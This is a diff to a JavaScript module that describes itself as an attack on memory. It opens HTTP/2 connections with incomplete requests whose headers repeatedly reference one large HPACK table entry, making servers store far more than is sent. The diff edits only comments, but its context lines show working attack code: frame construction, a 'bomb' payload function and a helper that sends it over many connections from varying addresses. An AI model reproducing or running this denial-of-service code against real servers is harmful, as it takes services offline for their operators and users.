@@ -1,5 +1,5 @@
-// An attack on memory: HTTP/2 connections with requests that never end, whose heads repeat references to one large entry of the
-// header table (RFC 7541 section 7.3): some 70 bytes on the wire make the server keep 8 KB.
+// An attack on memory: HTTP/2 connections with incomplete requests, whose heads repeat references to one large entry of the
+// header table (RFC 7541 section 7.3): about 70 bytes on the wire make the server store 8 KB.
 import { once } from 'node:events'
 import { connect } from 'node:net'
 import { block, frame, integer, join, kFlag, kPreface, kType, settings } from './http2_frames.mjs'
@@ -13,7 +13,7 @@ const pseudo = block([[':method', 'POST'], [':scheme', 'http'], [':path', '/oaut
 // "Literal Header Field with Incremental Indexing -- New Name" (RFC 7541 section 6.2.1).
 const entry = join([Buffer.from([0x40])], integer(0, 7, 1), 'x', integer(0, 7, kEntry), 'v'.repeat(kEntry))
 
-/** What one connection sends. */
+/** The bytes that one connection sends. */
 export function bomb() {
   const heads = [frame(kType.headers, kFlag.endHeaders, 1, join(pseudo, entry))]
   for (let index = 1; index < kStreams; ++index) {
@@ -23,7 +23,7 @@ export function bomb() {
 }
 
 /**
- * Opens `count` connections, each from the address that `from(index)` gives, and sends the bomb on each. Resolves, when
+ * Opens `count` connections, each from the address from(index), and sends these bytes on each. Resolves, when
  * all is sent or refused, to { bytes, refused, end }: bytes on the wire, connections that the server has closed at once,
  * and what closes all of them.
  */
